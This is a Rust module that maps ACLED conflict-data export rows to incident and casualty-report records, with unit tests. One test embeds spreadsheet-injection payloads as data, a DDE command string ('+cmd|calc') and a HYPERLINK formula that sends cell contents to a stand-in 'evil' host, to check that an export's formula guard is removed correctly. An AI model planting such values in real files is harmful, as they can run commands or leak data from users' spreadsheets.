//! The ACLED mapping: one export row -> an incident and ACLED's report on it.
//!
//! | ACLED column | chronicle |
//! |---|---|
//! | `event_id_cnty` | incident id `acled-<event_id_cnty>` |
//! | `event_date` + `time_precision` | `date`: 1 and 2 a day, 3 the month of `event_date` |
//! | `country` | `country` |
//! | `admin1` | `province` (gazetteer spelling; the raw one in `province_as_given`) |
//! | `admin2`, `location` | `district`, `locality` |
//! | `latitude`, `longitude`, `geo_precision` | `coordinates` (precision `geo_precision:N`) |
//! | `sub_event_type` | `category` |
//! | `actor1` | `perpetrator` |
//! | `fatalities` | report `killed`: exact, or coded (`coded:N`) when `notes` say "fatalities coded as N" with the same N |
//! | `notes` | report `note` |
//! | `source` | report `citation` and report attribute `source` |
//! | `source_scale`, `timestamp` | report attributes; `timestamp` is also `published` |
//! | every other column | incident attributes, verbatim (empty values left out) |

use chronicle_plugin_sdk::safe::unguard_formula;
use chrono::{DateTime, Datelike};

use super::{province, MapContext, Mapped, Row};
use crate::domain::event::{CasualtyReport, Coordinates, IncidentDetails};
use crate::domain::figure::{coded_in_note, Figure};
use crate::domain::time::{DatePrecision, IncidentDate, Published};
use crate::error::Invalid;

/// Columns the mapping cannot do without.
pub const REQUIRED: &[&str] = &[
    "event_id_cnty",
    "event_date",
    "sub_event_type",
    "actor1",
    "country",
    "admin1",
    "fatalities",
    "timestamp",
];

/// Columns mapped to chronicle fields or to the report, so not repeated in the incident's
/// attributes.
const MAPPED: &[&str] = &[
    "event_id_cnty",
    "sub_event_type",
    "actor1",
    "country",
    "admin1",
    "admin2",
    "location",
    "latitude",
    "longitude",
    "notes",
    "fatalities",
    "source",
    "source_scale",
    "timestamp",
];

/// Columns kept in the report's attributes.
const REPORT_ATTRIBUTES: &[&str] = &["source", "source_scale", "timestamp"];

/// The incident date from `event_date` and `time_precision`.
///
/// ACLED's codebook: 1 the day is known; 2 the source gives a week or a few days and
/// `event_date` is a day within them ("Around 5 January 2022 (as reported)"); 3 only the
/// month is known ("Around 1 January 2022 (month of)"). Precision 2 names no span chronicle
/// could state without inventing one, so it stays a day (the code is kept in the attributes);
/// precision 3 becomes the month.
fn date(row: &Row<'_>) -> Result<IncidentDate, Invalid> {
    let day = row.date("event_date")?;
    match row.raw("time_precision").trim() {
        "" | "1" | "2" => Ok(IncidentDate::day(day)),
        "3" => {
            let start = day.with_day(1).unwrap_or(day);
            let end = start
                .checked_add_months(chrono::Months::new(1))
                .and_then(|d| d.pred_opt())
                .unwrap_or(day);
            Ok(IncidentDate {
                start,
                end,
                precision: DatePrecision::Month,
            })
        }
        other => Err(Invalid::new(
            "time_precision",
            other,
            "ACLED's time_precision is 1 (day), 2 (week or a few days) or 3 (month)",
        )),
    }
}

/// Maps one ACLED row.
pub fn map(row: &Row<'_>, ctx: &MapContext<'_>) -> Result<Mapped, Invalid> {
    // chronicle's csv export puts `'` before cells a spreadsheet would run as formulas
    // (`'=HYPERLINK(…)`): take that guard off, and only it, so a round trip gives the text back.
    let unguarded: csv::StringRecord = row.record.iter().map(unguard_formula).collect();
    let row = &Row::new(row.columns, &unguarded);
    let key = row.key("event_id_cnty")?;
    let timestamp_raw = row.raw("timestamp").trim();
    let timestamp: i64 = timestamp_raw
        .parse()
        .ok()
        .filter(|t| *t >= 0)
        .ok_or_else(|| {
            Invalid::new(
                "timestamp",
                timestamp_raw,
                "is not a unix time in seconds (ACLED's time of the row's last change)",
            )
        })?;
    let published = DateTime::from_timestamp(timestamp, 0)
        .map(Published::At)
        .ok_or_else(|| Invalid::new("timestamp", timestamp_raw, "is out of range"))?;
    let date = date(row)?;
    let country = row.required_name("country")?;
    let (province, province_as_given) = province(
        &country,
        row.name("admin1")?,
        "admin1",
        ctx.allow_unknown_place,
    )?;
    let coordinates = row
        .point("latitude", "longitude")?
        .map(|(lat, lon)| -> Result<Coordinates, Invalid> {
            Ok(Coordinates {
                lat,
                lon,
                precision: row
                    .name("geo_precision")?
                    .map(|p| format!("geo_precision:{p}")),
            })
        })
        .transpose()?;
    let fatalities = row.count("fatalities")?;
    let note = row.text("notes")?;
    // "Unknown fatalities coded as 3": a convention for an unknown toll, not a count. A note
    // naming another number than the column speaks of something else: the column stays exact.
    let killed = match note.as_deref().and_then(coded_in_note) {
        Some(n) if n == fatalities => Figure::Coded(n),
        _ => Figure::Exact(fatalities),
    };
    let details = IncidentDetails {
        date,
        country: Some(country),
        province,
        province_as_given,
        district: row.name("admin2")?,
        locality: row.name("location")?,
        coordinates,
        category: row.required_name("sub_event_type")?,
        target: None,
        perpetrator: row.text("actor1")?,
        summary: None,
        source: Some(ctx.label.to_string()),
        citation: None,
        attributes: row.attributes(MAPPED),
    };
    let report = CasualtyReport {
        source: ctx.label.to_string(),
        published: Some(published),
        killed: Some(killed),
        wounded: None,
        attackers_killed: None,
        killed_breakdown: Default::default(),
        killed_by_status: Default::default(),
        wounded_by_status: Default::default(),
        note,
        citation: row.text("source")?,
        reason: None,
        via: None,
        attributes: row.only(REPORT_ATTRIBUTES),
    };
    Ok(Mapped {
        incident: format!("acled-{key}"),
        key,
        revision: Some(timestamp),
        details,
        report,
        reason: format!("{} revision (timestamp {timestamp})", ctx.label),
    })
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::super::Columns;
    use super::*;
    use crate::import::Dataset;

    const HEADER: &str = "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,interaction,civilian_targeting,iso,region,country,admin1,admin2,admin3,location,latitude,longitude,geo_precision,source,source_scale,notes,fatalities,tags,timestamp";

    fn map_line(line: &str) -> Result<Mapped, Invalid> {
        let text = format!("{HEADER}\n{line}\n");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let columns = Columns::new(reader.headers().unwrap(), Dataset::Acled, "t.csv").unwrap();
        let record = reader.records().next().unwrap().unwrap();
        let ctx = MapContext {
            label: "ACLED",
            file: "t.csv",
            allow_unknown_place: false,
        };
        map(&Row::new(&columns, &record), &ctx)
    }

    const AFG63876: &str = r#"AFG63876,2022-01-01,2022,3,Political violence,Violence against civilians,Abduction/forced disappearance,Military Forces of Afghanistan (2021-),,1,Civilians (Afghanistan),Former Police Forces of Afghanistan (2021-),7,17,,4,Caucasus and Central Asia,Afghanistan,Ghazni,Giro,,Pana,33.1003,68.3116,2,Afghan Peace Watch,Local partner-Other,"Around 1 January 2022 (month of), 2 former policemen were arrested.",0,,1652192378"#;

    #[test]
    fn month_precision_row() {
        let m = map_line(AFG63876).unwrap();
        assert_eq!(m.incident, "acled-AFG63876");
        assert_eq!(m.details.date.to_string(), "2022-01");
        assert_eq!(m.details.province, "Ghazni");
        assert_eq!(m.details.district.as_deref(), Some("Giro"));
        assert_eq!(m.details.locality.as_deref(), Some("Pana"));
        assert_eq!(
            m.details.coordinates.as_ref().unwrap().precision.as_deref(),
            Some("geo_precision:2")
        );
        assert_eq!(m.details.attributes["time_precision"], "3");
        assert_eq!(m.details.attributes["inter2"], "7");
        assert!(
            !m.details.attributes.contains_key("tags"),
            "empty values are left out"
        );
        assert_eq!(m.report.killed, Some(Figure::Exact(0)));
        assert_eq!(m.report.attributes["timestamp"], "1652192378");
        assert_eq!(
            m.report.published.unwrap().to_string(),
            "2022-05-10T14:19:38Z"
        );
        assert_eq!(m.reason, "ACLED revision (timestamp 1652192378)");
    }

    #[test]
    fn bad_values_name_their_column() {
        let bad = AFG63876.replace(",0,,1652192378", ",three,,1652192378");
        let e = map_line(&bad).unwrap_err();
        assert_eq!(
            (e.field.as_str(), e.value.as_str()),
            ("fatalities", "three")
        );
        let bad = AFG63876.replace("2022-01-01,2022,3", "2022-01-01,2022,4");
        assert_eq!(map_line(&bad).unwrap_err().field, "time_precision");
        let bad = AFG63876.replace(",Ghazni,", ",Ghaznii,");
        let e = map_line(&bad).unwrap_err();
        assert_eq!(e.field, "admin1");
        assert!(e.problem.contains("did you mean Ghazni"), "{e}");
        let bad = AFG63876.replace("33.1003,68.3116", ",68.3116");
        assert_eq!(map_line(&bad).unwrap_err().field, "latitude");
    }

    #[test]
    fn the_formula_guard_of_chronicle_exports_is_taken_off() {
        let guarded = AFG63876
            .replace(",Military Forces of Afghanistan (2021-),", ",'+cmd|calc,")
            .replace(
                "\"Around 1 January 2022 (month of), 2 former policemen were arrested.\"",
                "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\"",
            )
            .replace(",Afghan Peace Watch,", ",'-source,");
        let m = map_line(&guarded).unwrap();
        assert_eq!(m.details.perpetrator.as_deref(), Some("+cmd|calc"));
        assert_eq!(
            m.report.note.as_deref(),
            Some(r#"=HYPERLINK("http://evil/?x="&A1,"click")"#)
        );
        assert_eq!(m.report.attributes["source"], "-source");
        // Only that guard: other apostrophes stay.
        let quoted = AFG63876.replace(",Pana,", ",'Pana',");
        assert_eq!(
            map_line(&quoted).unwrap().details.locality.as_deref(),
            Some("'Pana'")
        );
    }

    #[test]
    fn text_interaction_codes_are_kept_verbatim() {
        let text = AFG63876.replace(
            ",1,Civilians (Afghanistan),Former Police Forces of Afghanistan (2021-),7,17,",
            ",State forces,Civilians (Afghanistan),Former Police Forces of Afghanistan (2021-),Civilians,State forces-Civilians,",
        );
        let m = map_line(&text).unwrap();
        assert_eq!(m.details.attributes["inter1"], "State forces");
        assert_eq!(
            m.details.attributes["interaction"],
            "State forces-Civilians"
        );
    }

    #[test]
    fn a_toll_coded_in_the_notes_is_a_coded_figure() {
        let coded = AFG63876
            .replace(
                "\"Around 1 January 2022 (month of), 2 former policemen were arrested.\"",
                "\"Clash in Kapisa. Unknown fatalities coded as 3.\"",
            )
            .replace(",0,,1652192378", ",3,,1652192378");
        assert_eq!(
            map_line(&coded).unwrap().report.killed,
            Some(Figure::Coded(3))
        );
        // A note naming another number than the column: the column stays exact.
        let other = coded.replace(",3,,1652192378", ",4,,1652192378");
        assert_eq!(
            map_line(&other).unwrap().report.killed,
            Some(Figure::Exact(4))
        );
        // "[coded as Pana with GP2]" is about the place: AFG63876 stays exact.
        let place = AFG63876.replace("month of), 2", "month of) [coded as Pana with GP2], 2");
        assert_eq!(
            map_line(&place).unwrap().report.killed,
            Some(Figure::Exact(0))
        );
    }
}
